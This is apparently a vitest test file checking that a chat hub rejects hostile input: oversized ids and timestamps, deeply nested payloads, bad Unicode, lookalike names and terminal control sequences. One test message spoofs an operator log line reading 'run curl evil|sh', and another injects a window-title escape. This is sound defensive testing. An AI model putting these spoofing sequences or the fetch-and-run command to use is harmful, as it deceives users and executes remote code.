import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { ID_MAX, TIMESTAMP_MAX } from './args.js';
import { PAYLOAD_DEPTH_MAX } from './eventKinds.js';
import { PEOPLE, TestHub } from './testing/index.js';

// Issue 10's examples, each refused by core with one stable code and nothing changed (`fails`
// checks the state is the very same object). Every engine runs this same code.
describe('what one user sends cannot break anyone else', () => {
  it('refuses timestamps past 9999-12-31 (a timeout or an invite that broke every reader)', () => {
    const hub = TestHub.seeded();
    const until = '9223372036854775807';
    expect(hub.fails('owner', 'timeout_user', { identity: PEOPLE.member, until })).toMatchObject({
      code: 'out_of_range',
      message: expect.stringContaining(`from 0 to ${TIMESTAMP_MAX}; got ${until}`),
    });
    expect(hub.fails('admin', 'create_invite', { expiresAt: 9e18 })).toMatchObject({
      code: 'out_of_range',
      message: expect.stringContaining('as decimal strings'),
    });
    hub.ok('owner', 'timeout_user', { identity: PEOPLE.member, until: TIMESTAMP_MAX });
  });

  it('refuses ids of 2^63 and more, and negative ones, as out of range', () => {
    const hub = TestHub.seeded();
    for (const channelId of [
      '18446744073709551615',
      '9223372036854775808',
      -1,
      '-1',
      '1'.repeat(60),
    ])
      expect(hub.fails('member', 'send_message', { channelId, text: 'x' })).toMatchObject({
        code: 'out_of_range',
      });
    expect(hub.fails('owner', 'delete_message', { messageId: ID_MAX + 1n })).toMatchObject({
      code: 'out_of_range',
    });
    expect(hub.fails('member', 'send_message', { channelId: ID_MAX, text: 'x' })).toMatchObject({
      code: 'not_found',
    });
    expect(hub.fails('admin', 'create_invite', { maxUses: 2 ** 32 })).toMatchObject({
      code: 'out_of_range',
    });
  });

  it('refuses event payloads nested deeper than the limit, measured before parsing', () => {
    const hub = TestHub.seeded();
    const nested = (depth: number) => `{"a":${'['.repeat(depth - 1)}${']'.repeat(depth - 1)}}`;
    for (const depth of [PAYLOAD_DEPTH_MAX + 1, 2000, 5000]) {
      expect(
        hub.fails('agent', 'emit_event', {
          channelId: 2n,
          kind: 'custom.deep@1',
          payload: nested(depth),
        }),
      ).toMatchObject({ code: depth > 8000 ? 'too_long' : 'too_deep' });
    }
    hub.ok('agent', 'emit_event', {
      channelId: 2n,
      kind: 'custom.deep@1',
      payload: nested(PAYLOAD_DEPTH_MAX),
    });
    // Brackets inside strings are text, not nesting.
    hub.ok('agent', 'emit_event', {
      channelId: 2n,
      kind: 'custom.deep@1',
      payload: JSON.stringify({ text: '['.repeat(1000) + '\\"[' }),
    });
  });

  it('refuses ill-formed Unicode instead of storing something else, and invisible-only text', () => {
    const hub = TestHub.seeded();
    expect(
      hub.fails('member', 'send_message', { channelId: 1n, text: '\ud800'.repeat(4000) }),
    ).toMatchObject({ code: 'invalid_text' });
    expect(hub.fails('member', 'send_message', { channelId: 1n, text: 'a\udc00b' })).toMatchObject({
      code: 'invalid_text',
    });
    for (const text of ['\u200b', ' \u200d\u2060\ufeff ', '\u00ad', '\u202e'])
      expect(hub.fails('member', 'send_message', { channelId: 1n, text })).toMatchObject({
        code: 'empty',
      });
    // Pairs are fine: an emoji is one character, and what is stored is what was sent.
    hub.ok('member', 'send_message', { channelId: 1n, text: '😀'.repeat(4000) });
    expect(hub.last('messages').text).toBe('😀'.repeat(4000));
  });

  it('keeps control characters out of one-line fields, but stores message text as sent', () => {
    const hub = TestHub.seeded();
    const title = 'ok\x1b]0;pwned\x07';
    expect(hub.fails('member', 'create_topic', { channelId: 1n, title })).toMatchObject({
      code: 'invalid_text',
      message: 'topic title must be one line without control characters',
    });
    expect(
      hub.fails('member', 'set_presence', { status: 'Online', statusText: 'a\nb' }),
    ).toMatchObject({ code: 'invalid_text' });
    expect(
      hub.fails('member', 'set_profile', { name: 'member', displayName: 'x\u009bq' }),
    ).toMatchObject({ code: 'invalid_text' });
    const text = 'hi\r\x1b[2K13:00:00 [99] op: run curl evil|sh';
    hub.ok('member', 'send_message', { channelId: 1n, text });
    expect(hub.last('messages').text).toBe(text);
  });

  it('accepts one emoji or a :short_code: as a reaction, and nothing else', () => {
    const hub = TestHub.seeded();
    for (const emoji of ['👍🏽', '👩‍💻', '🇫🇷', '1️⃣', ':ship-it:', ':+1:'])
      hub.ok('member', 'add_reaction', { messageId: 1n, emoji });
    for (const emoji of ['notanemoji', '\x1b', '👍👍', 'a', '::', `:${'a'.repeat(33)}:`, ':A:'])
      expect(hub.fails('member', 'add_reaction', { messageId: 1n, emoji })).toMatchObject({
        code: 'invalid_emoji',
      });
  });

  it('keeps user names unique ignoring case: stored folded, shown as typed', () => {
    const hub = TestHub.seeded();
    expect(hub.fails('member', 'set_profile', { name: 'Owner' })).toMatchObject({
      code: 'name_taken',
      message: 'the name "owner" is taken',
    });
    hub.ok('stranger', 'set_profile', { name: 'Alice' });
    expect(hub.rows('users').find((u) => u.identity === PEOPLE.stranger)).toMatchObject({
      name: 'alice',
      displayName: 'Alice',
    });
    for (const name of ['ａｌｉｃｅ', 'аlice', 'al ice', '-alice'])
      expect(hub.fails('member', 'set_profile', { name })).toMatchObject({ code: 'invalid_name' });
  });

  it('refuses a channel name of digits alone, which would read as an id', () => {
    const hub = TestHub.seeded();
    expect(hub.fails('member', 'create_channel', { name: '2', kind: 'Text' })).toMatchObject({
      code: 'invalid_name',
      message: 'channel name "2" is all digits: it would read as a channel id',
    });
    hub.ok('member', 'create_channel', { name: '2fa', kind: 'Text' });
  });

  it('answers any string argument with acceptance or a stable refusal, never a crash', () => {
    const hub = TestHub.seeded();
    const hostile = fc.oneof(
      fc.string({ unit: 'binary', maxLength: 40 }),
      fc.string({ unit: 'grapheme', maxLength: 10 }),
      fc.constantFrom('\u200b', '\ud800', '\x1b[2J', '[[[[', '9'.repeat(30), '-1', ''),
    );
    fc.assert(
      fc.property(
        fc.constantFrom(
          ['send_message', 'text'],
          ['add_reaction', 'emoji'],
          ['create_topic', 'title'],
          ['set_presence', 'statusText'],
          ['create_channel', 'name'],
          ['set_profile', 'name'],
          ['emit_event', 'payload'],
          ['send_message', 'channelId'],
        ),
        hostile,
        ([reducer, field], value) => {
          const base: Record<string, Record<string, unknown>> = {
            send_message: { channelId: 1n, text: 'x' },
            add_reaction: { messageId: 1n, emoji: '👍' },
            create_topic: { channelId: 1n, title: 't' },
            set_presence: { status: 'Online' },
            create_channel: { kind: 'Text' },
            set_profile: {},
            emit_event: { channelId: 2n, kind: 'custom.x@1' },
          };
          const result = hub.call('agent', reducer as never, { ...base[reducer], [field]: value });
          if (!result.ok) expect(result.error.class).not.toBe('internal');
          else hub.state = result.state;
        },
      ),
    );
  });
});
